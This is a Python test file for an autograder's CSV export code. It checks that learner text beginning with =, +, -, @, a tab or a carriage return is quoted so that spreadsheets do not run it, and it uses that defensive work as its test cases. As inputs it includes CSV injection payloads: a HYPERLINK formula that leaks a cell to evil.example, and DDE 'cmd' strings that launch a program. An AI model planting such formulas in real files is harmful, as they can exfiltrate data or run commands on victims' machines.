"""No CSV file the framework writes lets learner text run as a spreadsheet formula.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP's CSV injection); such a text cell gets a single quote in
front, numbers stay numbers, and the framework reads its own files back to the same text.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from autograder.commands import export
from autograder.commands.similarity import _gradebook_rows
from autograder.copies import page
from autograder.copies.judge import Pair
from autograder.copies.similarity_file import CSV_FILE, read_rows
from autograder.gradebook import store
from autograder.gradebook.store import LearnerRecord
from autograder.learner_text import csv_text, spreadsheet_cell, spreadsheet_text
from autograder.lms import fill
from autograder.lms.canvas import CANVAS
from autograder.lms.template import read_template

PACKAGE = Path(__file__).resolve().parents[2] / "autograder"
CANVAS_TEMPLATE = Path(__file__).resolve().parent / "lms_templates" / "canvas_gradebook.csv"
HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_COMMIT = "-2+3+cmd|' /C calc'!A0"
HOSTILE_ERROR = "@SUM(1+1)*cmd|' /C calc'!A0 was printed by the submission."
HOSTILE_TAMPER = "\t=1+1"
HOSTILE_REVIEW = "\r+1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _runnable(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: formula-like and not a number."""
    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not _is_number(c)]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("-1", "-1"),
        ("-1.00", "-1.00"),
        ("+2.5", "+2.5"),
        ("-1e-3", "-1e-3"),
        ("-", "'-"),
        ("-1 + 1", "'-1 + 1"),
        ("plain text", "plain text"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
    ],
)
def test_a_formula_cell_gets_a_quote_and_a_number_stays_a_number(value, cell) -> None:
    assert spreadsheet_cell(value) == cell


@pytest.mark.parametrize("value", ["=1+1", "'=1+1", "''x", "-1", "-cmd", "plain", ""])
def test_the_framework_reads_back_the_text_it_guarded(value) -> None:
    assert spreadsheet_text(str(spreadsheet_cell(value))) == value


def test_csv_text_guards_every_row_the_header_included() -> None:
    assert csv_text([["=h", "b"], ["@x", -1.5, "-1.50"]]) == "'=h,b\n'@x,-1.5,-1.50\n"


def _hostile_record() -> LearnerRecord:
    return LearnerRecord(
        HOSTILE_ID,
        commit=HOSTILE_COMMIT,
        components={"scale": -1.0},
        total=-1.0,
        max_score=10.0,
        tamper=[HOSTILE_TAMPER],
        review=[HOSTILE_REVIEW],
        error=HOSTILE_ERROR,
    )


def test_the_gradebook_runs_no_learner_text_and_keeps_a_negative_score_a_number() -> None:
    rows = _cells(store.render_gradebook([_hostile_record()], ["scale"]))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert _runnable(rows) == []
    assert row["learner"] == "'" + HOSTILE_ID
    assert row["commit"] == "'" + HOSTILE_COMMIT
    assert row["errors"] == "'" + HOSTILE_ERROR
    assert row["tamper"] == "'" + HOSTILE_TAMPER
    assert row["review"] == "'" + HOSTILE_REVIEW
    assert (row["scale"], row["total"]) == ("-1.00", "-1.00")


def test_export_and_similarity_read_the_guarded_gradebook_back_as_written(tmp_path) -> None:
    record = _hostile_record()
    text = store.render_gradebook([record], ["scale"])
    (tmp_path / store.GRADEBOOK_FILE).write_text(text, encoding="utf-8")
    assert export.read_totals(tmp_path) == {HOSTILE_ID: -1.0}
    assert _gradebook_rows(tmp_path / store.GRADEBOOK_FILE) == [(HOSTILE_ID, HOSTILE_ERROR)]


def test_similarity_csv_runs_no_learner_id_and_reads_back_as_written(tmp_path) -> None:
    pair = Pair(HOSTILE_ID, "-bob", "all", 0.95, True)
    text = page.render_csv([pair])
    assert _runnable(_cells(text)) == []
    (tmp_path / CSV_FILE).write_text(text, encoding="utf-8")
    row = read_rows(tmp_path / CSV_FILE)[0]
    assert (row["learner_a"], row["learner_b"], row["similarity"]) == (HOSTILE_ID, "-bob", "0.9500")


def test_an_export_column_named_like_a_formula_is_written_as_text() -> None:
    template = read_template(CANVAS_TEMPLATE)
    keys = {"amara": "amara"}
    done = fill.fill(
        template,
        CANVAS,
        column="=cmd|' /C calc'!A0",
        match=CANVAS.default_match,
        keys=keys,
        totals={"amara": 90.0},
        course_total=100.0,
    )
    assert done.added and template.header[-1] == "'=cmd|' /C calc'!A0"
    assert _runnable(_cells(template.render().decode("utf-8-sig"))) == []


def test_only_learner_text_makes_a_csv_writer() -> None:
    """Every CSV file of the framework is written by csv_text (a new writer would skip the
    guard)."""
    writers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    writers.append(str(path.relative_to(PACKAGE)))
    assert writers == ["learner_text.py"]


def test_a_carriage_return_in_a_cell_cannot_start_a_row_of_its_own() -> None:
    text = csv_text([["learner", "errors"], ["amy", "broke\rmallory,100.00"]])
    assert _cells(text) == [["learner", "errors"], ["amy", "broke\rmallory,100.00"]]
    assert text.endswith("\n") and not text.endswith("\r\n")
